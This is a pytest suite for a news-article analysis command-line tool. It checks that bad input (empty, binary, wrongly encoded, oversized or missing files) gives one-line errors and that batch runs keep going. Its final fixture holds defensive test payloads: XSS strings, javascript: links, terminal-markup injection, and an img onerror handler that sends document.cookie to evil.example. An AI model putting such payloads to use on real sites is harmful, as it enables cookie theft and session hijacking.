"""Bad input through the command line: one clear line on stderr naming the input, never a traceback.

In a directory run a bad file is reported and skipped; the other files are still analysed.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from reportage.cli import main

GOOD = ("The mayor said on Monday that the bridge would reopen next month. "
        '"We are ahead of schedule," she told reporters.\n')
GERMAN = ("Der Bundeskanzler sagte am Montag in Berlin, dass die Regierung die Steuern nicht erhöhen werde. "
          "Die Opposition kritisierte die Entscheidung scharf und forderte eine Debatte im Bundestag über "
          "die Zukunft der Wirtschaft des Landes und über die Rolle der Europäischen Union.\n")
HTML = ("<!doctype html><html><head><title>Bridge to reopen</title>"
        "<script>var tracker = 'SCRIPT_SHOULD_NOT_APPEAR'; function f() { return 1; }</script></head>"
        "<body><nav>Home | World | Sport</nav><article><h1>Bridge to reopen</h1>"
        "<p>The mayor said on Monday that the bridge would reopen next month, ahead of the schedule "
        "the city had set last year.</p>"
        "<p>\u201cWe are ahead of schedule,\u201d she told reporters at City Hall after the meeting.</p>"
        "</article></body></html>")


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def assert_one_line_error(err: str, path: Path | str, reason: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1, err
    assert lines[0].startswith(f"reportage: error: {path}: "), lines[0]
    assert reason in lines[0]
    assert "Traceback" not in err


@pytest.mark.parametrize(("name", "content", "reason"), [
    ("empty.txt", b"", "empty"),
    ("blank.txt", b"  \n\n \t\n", "empty"),
    ("image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" * 20, "binary"),
    ("latin1.txt", "Caf\u00e9 owners said prices would rise.\n".encode("latin-1"), "UTF-8"),
])
def test_bad_file_is_one_line_error(tmp_path, capsys, name, content, reason):
    path = tmp_path / name
    path.write_bytes(content)
    code, out, err = run_cli(capsys, "analyze", str(path), "--format", "jsonl")
    assert code != 0 and out == ""
    assert_one_line_error(err, path, reason)


def test_50_megabyte_file_is_refused_without_reading_it(tmp_path, capsys):
    path = tmp_path / "dump.txt"
    with path.open("wb") as fh:  # sparse: instant to create
        fh.truncate(50 * 1024 * 1024)
    code, out, err = run_cli(capsys, "analyze", str(path), "--format", "jsonl")
    assert code != 0 and out == ""
    assert_one_line_error(err, path, "too large")


def test_text_longer_than_the_parser_takes_is_refused(tmp_path, capsys):
    path = tmp_path / "long.txt"
    path.write_text("The minister said the talks would go on. " * 60_000, encoding="utf-8")  # 2.5 M chars
    code, out, err = run_cli(capsys, "analyze", str(path), "--format", "jsonl")
    assert code != 0 and out == ""
    assert_one_line_error(err, path, "too long")


def test_missing_file_and_broken_link(tmp_path, capsys):
    code, _, err = run_cli(capsys, "analyze", str(tmp_path / "nope.txt"))
    assert code != 0
    assert_one_line_error(err, tmp_path / "nope.txt", "no such file")
    link = tmp_path / "link.txt"
    link.symlink_to(tmp_path / "gone.txt")
    code, _, err = run_cli(capsys, "analyze", str(link))
    assert code != 0
    assert_one_line_error(err, link, "broken symbolic link")


def test_non_english_text_warns_but_is_analysed(tmp_path, capsys):
    path = tmp_path / "german.txt"
    path.write_text(GERMAN, encoding="utf-8")
    code, out, err = run_cli(capsys, "analyze", str(path), "--json")
    assert code == 0
    doc = json.loads(out)
    assert doc["text"] == GERMAN and doc["warnings"]
    assert f"reportage: warning: {path}: " in err and "English" in err and "Traceback" not in err


def test_html_main_text_is_extracted_without_the_script(tmp_path, capsys):
    path = tmp_path / "page.html"
    path.write_text(HTML, encoding="utf-8")
    code, out, err = run_cli(capsys, "analyze", str(path), "--json")
    assert code == 0, err
    doc = json.loads(out)
    text = doc["text"]
    assert "bridge would reopen next month" in text
    assert "SCRIPT_SHOULD_NOT_APPEAR" not in text and "function f()" not in text
    assert doc["title"] == "Bridge to reopen"
    extracted = tmp_path / "page.extracted.txt"  # offsets refer to this text, so it is written out
    assert extracted.read_text(encoding="utf-8") == text
    for q in doc["attributions"]:
        for span in [q["source"], q["cue"], *q["content"]]:
            if span:
                assert text[span["start"]:span["end"]] == span["text"]


def test_stdin(monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(GOOD.encode("utf-8")), encoding="utf-8"))
    code, out, err = run_cli(capsys, "analyze", "-", "--json")
    assert code == 0, err
    doc = json.loads(out)
    assert doc["id"] == "stdin" and doc["text"] == GOOD


def test_empty_stdin(monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b""), encoding="utf-8"))
    code, out, err = run_cli(capsys, "analyze", "-", "--json")
    assert code != 0 and out == ""
    assert_one_line_error(err, "<stdin>", "empty")


def make_mixed_dir(root: Path) -> dict[str, str]:
    """A folder of good and bad articles; returns the reason expected for each bad one."""
    root.mkdir()
    (root / "a_good.txt").write_text(GOOD, encoding="utf-8")
    (root / "b_empty.txt").write_bytes(b"")
    (root / "c_latin1.txt").write_bytes("Caf\u00e9 owners said prices would rise.\n".encode("latin-1"))
    (root / "d_binary.txt").write_bytes(b"\x00\x01\x02\x03" * 100)
    (root / "e_broken.txt").symlink_to(root / "nowhere.txt")
    (root / "f_good.txt").write_text(GOOD.replace("mayor", "governor"), encoding="utf-8")
    (root / "notes.pdf").write_bytes(b"%PDF-1.4 not an article")  # not .txt/.html: not picked up
    return {"b_empty.txt": "empty", "c_latin1.txt": "UTF-8", "d_binary.txt": "binary",
            "e_broken.txt": "broken symbolic link"}


def test_directory_with_bad_files_still_analyses_the_others(tmp_path, capsys):
    bad = make_mixed_dir(tmp_path / "articles")
    code, out, err = run_cli(capsys, "analyze", str(tmp_path / "articles"))
    assert code == 1  # some failed, some did not
    docs = [json.loads(line) for line in out.splitlines()]
    assert [d["id"] for d in docs] == ["a_good", "f_good"]
    errors = [line for line in err.splitlines() if line.startswith("reportage: error: ")]
    assert len(errors) == len(bad) and "Traceback" not in err
    for name, reason in bad.items():
        assert any(line.startswith(f"reportage: error: {tmp_path / 'articles' / name}: ") and reason in line
                   for line in errors), (name, err)


def test_directory_run_as_a_process(tmp_path):
    """The installed command: real stdout/stderr and exit status, no traceback."""
    bad = make_mixed_dir(tmp_path / "articles")
    exe = Path(sys.executable).with_name("reportage")
    cmd = [str(exe)] if exe.exists() else [sys.executable, "-m", "reportage.cli"]
    env = dict(os.environ, PYTHONWARNINGS="ignore")
    proc = subprocess.run([*cmd, "analyze", str(tmp_path / "articles")], capture_output=True, text=True,
                          timeout=300, env=env)
    assert proc.returncode == 1
    assert "Traceback" not in proc.stderr
    assert [json.loads(line)["id"] for line in proc.stdout.splitlines()] == ["a_good", "f_good"]
    assert sum(1 for line in proc.stderr.splitlines() if line.startswith("reportage: error: ")) == len(bad)


def test_every_file_bad_exits_2(tmp_path, capsys):
    root = tmp_path / "allbad"
    root.mkdir()
    (root / "x.txt").write_bytes(b"")
    (root / "y.txt").write_bytes(b"\xff\xfe\x00\x00")
    code, out, _ = run_cli(capsys, "analyze", str(root))
    assert code == 2 and out == ""


def test_directory_without_articles(tmp_path, capsys):
    (tmp_path / "readme.pdf").write_bytes(b"%PDF")
    code, _, err = run_cli(capsys, "analyze", str(tmp_path))
    assert code != 0
    assert_one_line_error(err, tmp_path, "no .txt or .html files")


def test_utf16_with_byte_order_mark_is_read(tmp_path, capsys):
    path = tmp_path / "windows.txt"
    path.write_bytes(GOOD.encode("utf-16"))
    code, out, err = run_cli(capsys, "analyze", str(path), "--json")
    assert code == 0, err
    assert json.loads(out)["text"] == GOOD


def test_windows_line_endings_keep_offsets(tmp_path, capsys):
    text = GOOD.replace("\n", "\r\n") + "\r\n\u201cIt will be fine,\u201d the engineer said.\r\n"
    path = tmp_path / "crlf.txt"
    path.write_bytes(text.encode("utf-8"))
    code, out, err = run_cli(capsys, "analyze", str(path), "--json")
    assert code == 0, err
    doc = json.loads(out)
    assert doc["text"] == text and doc["attributions"]
    for q in doc["attributions"]:
        for span in [q["source"], q["cue"], *q["content"]]:
            if span:
                assert text[span["start"]:span["end"]] == span["text"]


def test_an_internal_error_on_one_article_does_not_stop_the_batch(tmp_path, capsys, monkeypatch):
    import reportage.pipeline

    real = reportage.pipeline.analyze

    def flaky(text, **kw):
        if "governor" in text:
            raise ValueError("simulated bug\nsecond line")
        return real(text, **kw)

    monkeypatch.setattr(reportage.pipeline, "analyze", flaky)
    monkeypatch.delenv("REPORTAGE_DEBUG", raising=False)
    make_mixed_dir(tmp_path / "articles")
    code, out, err = run_cli(capsys, "analyze", str(tmp_path / "articles"))
    assert code == 1
    assert [json.loads(line)["id"] for line in out.splitlines()] == ["a_good"]
    line = next(x for x in err.splitlines() if "f_good.txt" in x)
    assert line.startswith("reportage: error: ") and "simulated bug" in line and "second line" not in err


MALICIOUS = ("Minister Warns Of Unrest <script>alert('x')</script>\n\n"
             "Slideshow (3 Images)\n\n"
             "The minister said on Monday that the <b onmouseover=\"alert(1)\">talks</b> would resume in Geneva.\n\n"
             "\u201cWe will not accept [bold red]threats[/bold red] or [link=javascript:alert(1)]tricks[/link],\u201d "
             "she told reporters. <img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">\n\n"
             "By signing up, you agree to our Privacy Policy <iframe src=\"javascript:alert(2)\"></iframe>\n")


def test_markup_and_script_in_plain_text_stay_inert_text(tmp_path, capsys):
    """A plain-text article carrying HTML, script and terminal markup: analysed as text, kept verbatim,
    never interpreted. The residue lines that carry markup are excluded like any other."""
    path = tmp_path / "malicious.txt"
    path.write_text(MALICIOUS, encoding="utf-8")
    code, out, err = run_cli(capsys, "analyze", str(path), "--json")
    assert code == 0 and "Traceback" not in err, err
    doc = json.loads(out)
    text = doc["text"]
    assert text == MALICIOUS
    assert {x["reason"] for x in doc["excluded"]} >= {"slideshow marker", "newsletter or sign-up offer"}
    for x in doc["excluded"]:
        assert text[x["start"]:x["end"]] == x["text"]
    spans = [m for a in doc["actors"] for m in a["mentions"]]
    spans += [s for q in doc["attributions"] for s in (q["source"], q["cue"], *q["content"]) if s]
    spans += [s for e in doc["events"] for s in (e["trigger"], e["sentence"])]
    for span in spans:
        assert text[span["start"]:span["end"]] == span["text"]
    assert any("talks" in c["text"] for q in doc["attributions"] for c in q["content"])
    assert not any(a["name"].lower() in ("you", "slideshow") for a in doc["actors"])
    # the terminal view prints the markup as text: rich must not read "[bold red]" or "[link=...]" as style
    code, out, err = run_cli(capsys, "analyze", str(path))
    assert code == 0 and "Traceback" not in err, err
    assert "[bold red]threats[/bold red]" in out and "[link=javascript:alert(1)]" in out
